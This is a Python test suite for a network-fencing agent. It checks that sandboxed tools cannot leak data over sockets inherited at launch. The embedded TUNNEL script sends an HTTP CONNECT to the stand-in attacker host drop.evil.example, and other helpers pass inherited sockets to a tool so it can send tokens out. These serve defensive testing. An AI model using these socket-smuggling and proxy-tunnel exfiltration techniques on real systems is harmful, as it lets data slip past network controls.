# SPDX-License-Identifier: Apache-2.0
"""What a tool has in its hands when it begins. Cases for run.py; each starts its own agent."""
import concurrent.futures
import os
import shutil
import signal
import struct
import subprocess
import time

import world as W
from bpfmap import BpfMap
from world import AI, token

HERE = os.path.dirname(os.path.abspath(__file__))
LISTEN = 7272


# kind of socket (launch.c), uid that starts the tool, does it need what this kernel may lack
KINDS = [(k, 65534) for k in (
    "tcp4", "tcp6", "udp4", "udp6", "udp4-open", "udp6-open", "tcp4-open-later", "tcp6-open-later", "udp4-open-later", "udp6-open-later",
    "listen4", "listen6", "listen4-queued", "listen6-queued", "ping4", "ping6", "mptcp4", "udp6-full", "tcp6-full", "udp4-many", "tcp6-many",
    "tcp4-racer", "udp4-racer", "tcp4-orphan", "tcp4-tracer", "udp6-full-racer")] + [(k, 0) for k in ("raw4", "raw6", "tcp4", "udp6")]
MAY_LACK = {"mptcp4", "ping4", "ping6"}


def build(w):
    free = w.dir + "/launch"
    if not os.path.exists(free):
        W.sh("gcc", "-O1", "-Wall", "-Wextra", "-Werror", "-static", "-o", free, HERE + "/launch.c")
        shutil.copy(free, w.dir + "/tool")
        W.sh("ip", "netns", "exec", w.lap, "sysctl", "-qw", "net.ipv4.ping_group_range=0 2147483647")
        W.sh("ip", "netns", "exec", w.lap, "sysctl", "-qw", "net.mptcp.enabled=1", check=False)
        # a stream whose every packet is refused, and which nobody has open any more, is given up soon
        W.sh("ip", "netns", "exec", w.lap, "sysctl", "-qw", "net.ipv4.tcp_orphan_retries=1")
    return free, w.dir + "/tool"


def policy(w):
    return {"tools": [{"name": "voice-assistant", "match": [{"exe": w.dir + "/tool"}, {"exe": w.dir + "/caller"}],
                       "allow": ["crm.own", {"cidr": "10.99.1.10/32", "ports": [80], "why": "test"}]}]}


def fetch(w, kind, port, times):
    """Somebody who connects to what listens, and reads."""
    address = "fd99::2" if "6" in kind else "10.99.0.2"
    text = ("import socket, time\nfor i in range(%d):\n try:\n  s=socket.create_connection((%r,%d),2);s.settimeout(3);s.recv(99);s.close();break\n"
            " except OSError: time.sleep(.05)\n" % (times, address, port))
    return subprocess.Popen(["ip", "netns", "exec", w.net, "python3", "-c", text], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def one(w, kind, program, uid, port):
    """Start `program` with such a socket; the token, and what it said."""
    tok = token()
    p = w.popen(w.dir + "/launch", "start", kind, program, tok, str(port), confined=False, uid=uid)
    reader = None
    if "listen" in kind:
        p.stdout.readline()
        reader = fetch(w, kind, port, 20)
    try:
        out = p.communicate(timeout=15)[0]
    except subprocess.TimeoutExpired:
        p.kill()
        out = "killed: " + p.communicate()[0]
    if reader:
        reader.kill()
        reader.wait()
    return tok, out


def seized_count(w):
    m = BpfMap(w.pins + "/seizing")
    n = struct.unpack("<Q", m.values()[0])[0]
    m.close()
    m = BpfMap(w.pins + "/seized")
    entries = len(m.keys())
    m.close()
    return (n, entries)


def settles(w, want, seconds=15):
    """So many are seized in the end? What is wrong with it."""
    end = time.time() + seconds
    while seized_count(w) != (want, want) and time.time() < end:
        time.sleep(0.1)
    is_ = seized_count(w)
    if is_ == (want, want):
        return []
    m = BpfMap(w.pins + "/seized")
    left = [struct.unpack("<QQI4B", v)[2:] for v in m.values()]
    m.close()
    return ["%d should be seized, are %s: %s" % (want, is_, left)]


def phase(w, problems, what, program, kinds, leak):
    """Each kind once: it leaks where it should, and nothing does where it should not."""
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        said = dict(zip(kinds, pool.map(lambda k: one(w, k[1][0], program, k[1][1], LISTEN + k[0]), enumerate(kinds))))
    time.sleep(0.5 * W.SLOW)
    seen = w.sniffed()["tokens"]
    for (kind, uid), (tok, out) in said.items():
        got = seen.get(tok)
        if leak and not got and kind not in MAY_LACK:
            problems.append("%s %s: nothing arrived (%r)" % (what, kind, out))
        if not leak and got:
            problems.append("%s %s uid %d LEAKED %s (%r)" % (what, kind, uid, got, out))
    return {k for k, (tok, out) in said.items() if seen.get(tok)}


def seized(w):
    """Whatever socket a tool inherits at the exec that makes it a session, and whoever has it too or sends it signals: nothing leaves by it."""
    free, tool = build(w)
    bad = []
    bare = phase(w, bad, "bare", free, KINDS, True)
    w.start("--quiet", **policy(w))
    phase(w, bad, "seized", tool, KINDS, False)
    phase(w, bad, "twin", free, [k for k in KINDS if k in bare], True)
    told = [d.get("guard") for d in w.rows("deny")]
    bad += [] if "inherited" in told else ["rows of what cannot be tagged: %s" % set(told)]
    bad += settles(w, 0)
    sessions = [s for s in w.rows("session") if s["change"] == "start"]
    bad += [] if len(sessions) == len(KINDS) else ["%d sessions of %d" % (len(sessions), len(KINDS))]
    w.stop()
    return bad


def seized_alone(w):
    """The same while the agent is stopped, and after kill -9; the next agent finds what is left, and ends it."""
    free, tool = build(w)
    bad = []
    some = [k for k in KINDS if k[1] and k[0] not in MAY_LACK]
    w.start("--quiet", **policy(w))
    w.agent.send_signal(signal.SIGSTOP)
    try:
        phase(w, bad, "stopped", tool, some, False)
        phase(w, bad, "stopped, twin", free, [("tcp4", 65534), ("udp6", 65534)], True)
    finally:
        w.agent.send_signal(signal.SIGCONT)
    time.sleep(0.5)
    w.agent.kill()
    w.agent.wait()
    phase(w, bad, "dead", tool, some, False)
    phase(w, bad, "dead, twin", free, [("tcp4", 65534), ("udp6", 65534)], True)
    bad += settles(w, 0)
    tok = token()
    r, wr = os.pipe()
    waits = ("import os, socket\ns = socket.create_connection((%r, 80))\ns.set_inheritable(True)\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
             "u.connect((%r, 9999))\nu.set_inheritable(True)\nos.execv(%r, ['tool', '-c', 'import socket,sys\\nsys.stdin.readline()\\n"
             "for n,k in ((%%d,1),(%%d,2)):\\n s=socket.socket(fileno=n)\\n try: s.send(b\"%s\");print(k,\"sent\")\\n except OSError as e: print(k,e.errno)'"
             " %% (s.fileno(), u.fileno())])\n" % (AI, AI, w.dir + "/caller", tok))
    shutil.copy(os.path.realpath("/usr/bin/python3"), w.dir + "/caller")
    p = w.popen("/usr/bin/python3", "-c", waits, confined=False, stdin_fd=r)
    os.close(r)
    bad += settles(w, 2)
    os.unlink(w.control)
    w.start("--quiet", **policy(w))
    bad += settles(w, 0)
    os.write(wr, b"\n")
    os.close(wr)
    out = p.communicate(timeout=10)[0]
    bad += [] if "1 103" in out or "1 32" in out else ["the stream was not ended: %r" % out]
    bad += [] if "2 1" in out and not w.arrived(tok) else ["LEAKED: %r" % out]
    w.stop()
    return bad


def seized_later(w):
    """A process that joins a session, and a tool that the agent finds running, with a socket that cannot be tagged: it ends."""
    free, tool = build(w)
    bad, toks = [], [token() for _ in range(3)]

    def held(program, tok):
        p = w.popen(program, "hold", "udp6-full", tok, confined=False, uid=65534)
        p.stdout.readline()
        return p

    def ends(what, p):
        p.send_signal(signal.SIGUSR1)
        p.communicate(timeout=10)
        return [] if p.returncode == -signal.SIGKILL else ["%s was not killed, but ended with %d" % (what, p.returncode)]

    p = held(free, toks[0])
    p.send_signal(signal.SIGUSR1)
    p.communicate(timeout=10)
    bad += [] if w.sniffed()["tokens"].get(toks[0]) else ["nothing arrived without crmfence"]
    found = held(tool, toks[1])
    w.start("--quiet", **policy(w))
    time.sleep(0.5)
    bad += ends("what the agent found", found)
    joins = held(free, toks[2])
    said = W.sh(W.BUILD + "/crmfence", "join", "--control", w.control, "--tool", "voice-assistant", str(joins.pid), check=False)
    bad += [] if said.returncode == 0 and "killed" in said.stdout else ["join: %r" % said.stdout]
    bad += ends("what joined", joins)
    seen = w.sniffed()["tokens"]
    bad += ["LEAKED %s" % seen[t] for t in toks[1:] if t in seen]
    guards = [d.get("guard") for d in w.rows("deny")]
    bad += [] if guards.count("inherited") == 2 else ["rows: %s" % guards]
    w.stop()
    return bad


HONEST = """
import os, socket, subprocess, sys, time
tool, own, leaked = sys.argv[1:4]
mine = socket.create_connection(("%s", 80))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(("%s", 9999))
listens = socket.create_server(("127.0.0.1", 0))
listens.set_inheritable(True)
open_ = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
open_.set_inheritable(True)
p = subprocess.Popen([tool, "-c", "import socket\\ns=socket.create_connection(('10.99.1.10',80),3)\\ns.send(b'POST /x HTTP/1.1\\\\r\\\\nHost: x\\\\r\\\\n"
                      "Content-Length: 12\\\\r\\\\n\\\\r\\\\n%%s')\\ns.recv(99);print('answered')" %% leaked], close_fds=False, stdout=subprocess.PIPE, text=True)
for i in range(20):
    udp.send(own.encode())
    time.sleep(0.02)
out = p.communicate()[0]
mine.send(b"POST /x HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 12\\r\\n\\r\\n" + own.encode())
print(out, mine.recv(99)[:12])
""" % (AI, AI)


def seized_honest(w):
    """A tool that was started with sockets that it does not need works; what started it goes on with its own."""
    build(w)
    shutil.copy(os.path.realpath("/usr/bin/python3"), w.dir + "/caller")
    path = w.dir + "/honest.py"
    with open(path, "w") as f:
        f.write(HONEST)
    w.start("--quiet", **policy(w))
    own, leaked = token(), token()
    code, out = w.run("/usr/bin/python3", path, w.dir + "/caller", own, leaked, confined=False, uid=65534)
    bad = [] if code == 0 and "answered" in out and "HTTP/1.1 200" in out else ["%d %r" % (code, out)]
    got = w.arrived(own)
    bad += [] if "wire %s:80" % AI in got and "wire %s:9999" % AI in got else ["what started it was harmed: %s" % got]
    bad += [] if w.arrived(leaked) else ["the tool's own call did not arrive"]
    for _ in range(5):  # as many as it has, it is not ended for them, and nobody waits for the agent meanwhile
        _, out = one(w, "tcp4-many", w.dir + "/tool", 65534, LISTEN)
        bad += [] if "sent" in out else ["with thousands of sockets: %r" % out]
    began = time.monotonic()
    W.sh(W.BUILD + "/crmfence", "status", "--control", w.control)
    bad += [] if time.monotonic() - began < 1 else ["the agent was busy for %.1f s" % (time.monotonic() - began)]
    bad += settles(w, 0)
    w.stop()
    return bad


TUNNEL = """
import os, socket, sys
s = socket.create_connection((sys.argv[3], 3128), 5)
s.send(b"CONNECT drop.evil.example:443 HTTP/1.1\\r\\nHost: drop.evil.example:443\\r\\n\\r\\n")
print(s.recv(99).split(b"\\r")[0].decode(), flush=True)
sys.stdin.readline()
os.set_inheritable(s.fileno(), True)
os.execv(sys.argv[1], [sys.argv[1], "-c", "import socket, sys\\ns = socket.socket(fileno=int(sys.argv[1]))\\n"
         "try:\\n s.send(('CONNECT acme.my.salesforce.com:443 HTTP/1.1\\\\r\\\\nX: ' + sys.argv[2] + '\\\\r\\\\n\\\\r\\\\n').encode()); print('sent')\\n"
         "except OSError as e: print(e)\\nimport time; time.sleep(1)", str(s.fileno()), sys.argv[2]])
"""


def seized_tunnel(w):
    """A tool is started with a connection to a proxy that leads to somebody already: what looks like the session's request goes to that one. Begun before
    the agent, and beside it. The session's own tunnel through the same proxy works."""
    tool, path, bad = shutil.copy(os.path.realpath("/usr/bin/python3"), w.dir + "/assistantd"), W.script(w, "tunnel.py", TUNNEL), []
    proxy = {"proxies": [{"host": W.PROXY, "port": 3128}]}
    for name in ("bare", "before the agent", "beside it"):
        tok = token()
        if name == "beside it":
            w.start("--quiet", **proxy)
        p = w.popen("/usr/bin/python3", path, tool, tok, W.PROXY, confined=False, uid=65534, stdin_fd=subprocess.PIPE)
        said = p.stdout.readline()
        if name == "before the agent":
            w.start("--quiet", **proxy)
        out, _ = p.communicate("go\n", timeout=20)
        if " 200" not in said or bool(w.arrived(tok)) != (name == "bare"):
            bad.append("%s: %r %r, arrived %s" % (name, said, out, w.arrived(tok)))
        if name != "bare":
            code, out = w.run("curl", "-sS", "-m", "8", "-x", "http://%s:3128" % W.PROXY, "-o", "/dev/null", "-w", "%{http_code}",
                              "https://acme.my.salesforce.com/x", uid=65534)
            bad += [] if out == "200" else ["%s, its own: %d %s" % (name, code, out)]
            w.stop()
    return bad


CHURN = """
import os, socket, sys, time
end, n, bad = time.time() + float(sys.argv[1]), 0, []
while time.time() < end:
    many = [socket.socket((socket.AF_INET, socket.AF_INET6)[i & 1], (socket.SOCK_STREAM, socket.SOCK_DGRAM)[i >> 1 & 1]) for i in range(64)]
    for i, s in enumerate(many):
        host = ("10.99.1.30", "fd99::30")[i & 1]
        try:
            if i >> 1 & 1:
                s.sendto(b"churn", (host, 9999))
            else:
                s.connect((host, 80))
                s.send(b"x")
            n += 1
        except OSError as e:
            bad.append(e.errno)
    for s in many:
        s.close()
print(n, bad[:5], len(bad))
"""

CROWD = """
import os, socket, sys
held = [socket.socket((socket.AF_INET, socket.AF_INET6)[i & 1], (socket.SOCK_STREAM, socket.SOCK_DGRAM)[i >> 1 & 1]) for i in range(200)]
for i, s in enumerate(held):
    s.set_inheritable(True)
    if i % 5 == 0:
        s.connect((("10.99.1.30", "fd99::30")[i & 1], (80, 9999)[i >> 1 & 1]))
os.execv(sys.argv[1], [sys.argv[1], "-c", "import time;time.sleep(%s)" % sys.argv[2]])
"""


def seized_addresses(w):
    """Sockets of unconfined processes come and go, at addresses that seized ones had and have: with an agent that tags them, with one that is
    stopped, and none of theirs is refused. In the end nothing is remembered."""
    build(w)
    bad = []
    shutil.copy(os.path.realpath("/usr/bin/python3"), w.dir + "/caller")
    for name, text in (("churn", CHURN), ("crowd", CROWD)):
        with open("%s/%s.py" % (w.dir, name), "w") as f:
            f.write(text)
    W.sh("ip", "netns", "exec", w.lap, "sysctl", "-qw", "net.ipv4.tcp_max_tw_buckets=65536")
    w.start("--quiet", **policy(w))
    for stopped in (False, True):
        if stopped:
            w.agent.send_signal(signal.SIGSTOP)
        try:
            churn = [w.popen("python3", w.dir + "/churn.py", "5", confined=False, uid=65534) for _ in range(2)]
            end, most = time.time() + 4, 0
            while time.time() < end:
                crowd = [w.popen("/usr/bin/python3", w.dir + "/crowd.py", w.dir + "/caller", "0.%d" % i, confined=False, uid=65534) for i in range(3)]
                time.sleep(0.2)
                most = max(most, seized_count(w)[1])
                [p.communicate(timeout=20) for p in crowd]
            said = [p.communicate(timeout=30)[0] for p in churn]
        finally:
            w.agent.send_signal(signal.SIGCONT)
        for s in said:
            n, rest = int(s.split()[0]), s.split(None, 1)[1].strip()
            bad += [] if n > 500 and rest == "[] 0" else ["stopped %s: %s" % (stopped, s)]
        bad += ["nothing was ever seized"] if not most and stopped else []
        bad += settles(w, 0)
    w.stop()
    return bad


ALONE = [seized_tunnel, seized, seized_alone, seized_later, seized_honest, seized_addresses]
